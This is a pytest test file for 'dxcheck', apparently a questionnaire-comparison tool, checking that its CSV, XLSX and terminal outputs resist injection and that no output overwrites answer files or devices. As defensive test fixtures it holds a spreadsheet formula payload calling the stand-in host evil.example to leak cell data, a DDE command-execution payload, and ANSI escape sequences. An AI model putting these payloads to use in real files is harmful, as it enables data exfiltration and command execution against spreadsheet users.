"""Outputs that cannot be turned against their reader (issue 9): formula cells neutralised in
the CSV (read back), none in the XLSX, control characters escaped in the terminal, `-o` only
to regular files and never over an answer file, several outputs all or nothing, leftovers of
a killed write removed, merge counting a file once and refusing an oversized result."""

from __future__ import annotations

import csv
import io
import os
import time
import zipfile
from pathlib import Path

import pytest

from dxcheck.__main__ import main
from dxcheck.core.answers import to_toml
from dxcheck.io.collect import collect
from dxcheck.io.export.csv_export import comparison_csv
from dxcheck.io.export.xlsx_export import comparison_xlsx
from dxcheck.io.load import load_questionnaire
from dxcheck.io.store import WriteError, atomic_write_bytes, atomic_write_many

from .hostile_corpus import FIXED_TOWN_CODE, TOWN, fixed_texts, good_text, write_text
from .samples import synthetic_assessment

Q = load_questionnaire()
EVIL = {
    "respondent": '=HYPERLINK("http://evil.example/?d="&A1,"詳細")',
    "department": "+cmd|' /C calc'!A0",
}


def evil_file(folder: Path, name: str = "evil.toml") -> Path:
    a = synthetic_assessment(Q, TOWN, seed=3)
    a.meta.respondent = EVIL["respondent"]
    a.meta.department = EVIL["department"]
    return write_text(folder / name, to_toml(a, Q))


def test_csv_neutralises_formula_cells_and_keeps_the_code_s_leading_zero(tmp_path: Path) -> None:
    evil_file(tmp_path / "in")
    write_text(
        tmp_path / "in" / "@at.toml", good_text(Q, seed=4).replace("2026-11-01", "2026-10-01")
    )
    data = comparison_csv(collect([tmp_path / "in"], Q), Q)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header, [row] = rows[0], rows[1:]
    cells = dict(zip(header, row, strict=True))
    assert cells["回答者"] == "'" + EVIL["respondent"]
    assert cells["担当課"] == "'" + EVIL["department"]
    assert cells["団体コード"] == f"'{FIXED_TOWN_CODE}"  # text: Excel keeps 011002
    # nothing a spreadsheet would evaluate is left at the start of any cell
    for line in rows:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # numbers stay numbers
    assert float(cells["総合スコア"]) >= 0


def test_xlsx_writes_hostile_text_as_text_never_as_a_formula(tmp_path: Path) -> None:
    evil_file(tmp_path)
    data = comparison_xlsx(collect([tmp_path], Q), Q)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
        strings = z.read("xl/sharedStrings.xml").decode()
    assert all("<f>" not in sheet and "<f " not in sheet for sheet in sheets)
    assert "=HYPERLINK(" in strings and "+cmd|" in strings  # kept, as strings
    assert f">{FIXED_TOWN_CODE}<" in strings  # the code as text, zero kept


def test_terminal_output_escapes_control_characters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    texts = fixed_texts(Q)
    key = write_text(tmp_path / "key.toml", texts["esc-key"])
    code = write_text(tmp_path / "code.toml", texts["esc-code"])
    named = write_text(tmp_path / "\x1b[2Jname.toml", good_text(Q))
    main(["validate", str(key), str(code), str(named)])
    out = capsys.readouterr()
    printed = out.out + out.err
    assert "\x1b" not in printed
    assert "\\x1b[31mred" in printed and "\\x1b[2J011002" in printed
    assert "\\x1b[2Jname.toml: OK" in printed


@pytest.mark.parametrize("flag", ["-o", "--csv", "--xlsx"])
def test_compare_refuses_devices_folders_and_answer_files_as_outputs(
    flag: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    answer = write_text(tmp_path / "in" / "a.toml", good_text(Q))
    other_answer = write_text(
        tmp_path / "other" / "b.pdf", good_text(Q)
    )  # an answer file all the same
    targets = [Path("/dev/null"), tmp_path / "in", other_answer]
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "fifo.csv")
        targets.append(tmp_path / "fifo.csv")
    for target in targets:
        assert main(["compare", str(answer), "--quiet", flag, str(target)]) == 2
        assert "Traceback" not in capsys.readouterr().err
    assert other_answer.read_text(encoding="utf-8") == good_text(Q)
    assert Path("/dev/null").is_char_device()


def test_report_never_lands_over_an_answer_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    mine = write_text(tmp_path / "mine.toml", good_text(Q))
    theirs = write_text(tmp_path / "theirs.toml", good_text(Q, seed=1))
    assert main(["report", str(mine), "-o", str(theirs)]) == 2
    assert "回答ファイル" in capsys.readouterr().err
    assert theirs.read_text(encoding="utf-8") == good_text(Q, seed=1)
    assert main(["report", str(mine), "-o", "/dev/null"]) == 2


@pytest.mark.parametrize(
    "command",
    [
        ["report", "{mine}", "-o", "{out}/r.pdf", "--docx", "{target}"],
        ["report", "{mine}", "-o", "{out}/r.pdf", "--json", "{target}"],
        ["report", "{mine}", "-o", "{out}/r.pdf", "--html", "{target}"],
        ["plan", "{mine}", "-o", "{target}"],
        ["plan", "{mine}", "-o", "{out}/p.docx", "--xlsx", "{target}"],
        ["compare", "{mine}", "--quiet", "--csv", "{target}"],
    ],
)
def test_no_output_of_any_command_lands_over_an_answer_file_or_a_device(
    command: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every output option goes through one rule (dxcheck.cli.outputs): before it, `report
    --docx/--json` and both outputs of `plan` could overwrite another municipality's answers."""
    mine = write_text(tmp_path / "mine.toml", good_text(Q))
    theirs = write_text(tmp_path / "theirs.bin", good_text(Q, seed=1))  # an answer file by content
    (tmp_path / "out").mkdir()
    for target in (theirs, tmp_path / "new.toml", Path("/dev/null"), mine):
        args = [a.format(mine=mine, out=tmp_path / "out", target=target) for a in command]
        assert main(args) == 2, (args, capsys.readouterr().err)
        err = capsys.readouterr().err
        assert "Traceback" not in err and ("名前" in err or "書き出しません" in err), err
    assert theirs.read_text(encoding="utf-8") == good_text(Q, seed=1)
    assert mine.read_text(encoding="utf-8") == good_text(Q)
    assert not (tmp_path / "new.toml").exists()
    assert list((tmp_path / "out").iterdir()) == []  # refused before any work: nothing written


def test_one_output_named_twice_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    mine = write_text(tmp_path / "mine.toml", good_text(Q))
    same = tmp_path / "x.out"
    assert main(["plan", str(mine), "-o", str(same), "--xlsx", str(same)]) == 2
    assert "同じ出力先が2回指定されています" in capsys.readouterr().err
    assert not same.exists()


def test_several_outputs_are_written_all_or_nothing(tmp_path: Path) -> None:
    first = tmp_path / "a.csv"
    missing = tmp_path / "no-such-folder" / "b.xlsx"
    with pytest.raises(WriteError):
        atomic_write_many([(first, b"one"), (missing, b"two")])
    assert not first.exists()
    assert list(tmp_path.iterdir()) == []  # no temporary left behind
    atomic_write_many([(first, b"one"), (tmp_path / "b.xlsx", b"two")])
    assert first.read_bytes() == b"one" and (tmp_path / "b.xlsx").read_bytes() == b"two"


def test_a_killed_write_s_temporary_is_removed_by_the_next_write(tmp_path: Path) -> None:
    target = tmp_path / "c.csv"
    stale = tmp_path / ".c.csv.k1ll3d.tmp"
    stale.write_bytes(b"half")
    old = time.time() - 3600
    os.utime(stale, (old, old))
    atomic_write_bytes(target, b"whole")
    assert target.read_bytes() == b"whole" and not stale.exists()
    assert [p.name for p in tmp_path.iterdir()] == ["c.csv"]


def test_merge_counts_the_same_file_once(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    a = write_text(tmp_path / "a.toml", good_text(Q))
    link = tmp_path / "same.toml"
    link.symlink_to(a)
    out = tmp_path / "m.toml"
    assert main(["merge", str(a), str(a), str(link), "-o", str(out)]) == 1
    err = capsys.readouterr().err
    assert "同じファイルです" in err and "2つ以上の（別々の）回答ファイル" in err
    assert not out.exists()
    b = write_text(tmp_path / "b.toml", good_text(Q, seed=1))
    assert main(["merge", str(a), str(b), str(a), "-o", str(out)]) == 0
    assert "2 人の回答をまとめました" in capsys.readouterr().out


def test_a_merged_file_over_the_size_cap_is_not_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import dxcheck.io.respondents as respondents

    monkeypatch.setattr(respondents, "MAX_ANSWER_FILE_BYTES", 10_000)
    a = write_text(tmp_path / "a.toml", good_text(Q))
    b = write_text(tmp_path / "b.toml", good_text(Q, seed=1))
    out = tmp_path / "m.toml"
    assert main(["merge", str(a), str(b), "-o", str(out)]) == 1
    assert "大きすぎます" in capsys.readouterr().err and not out.exists()
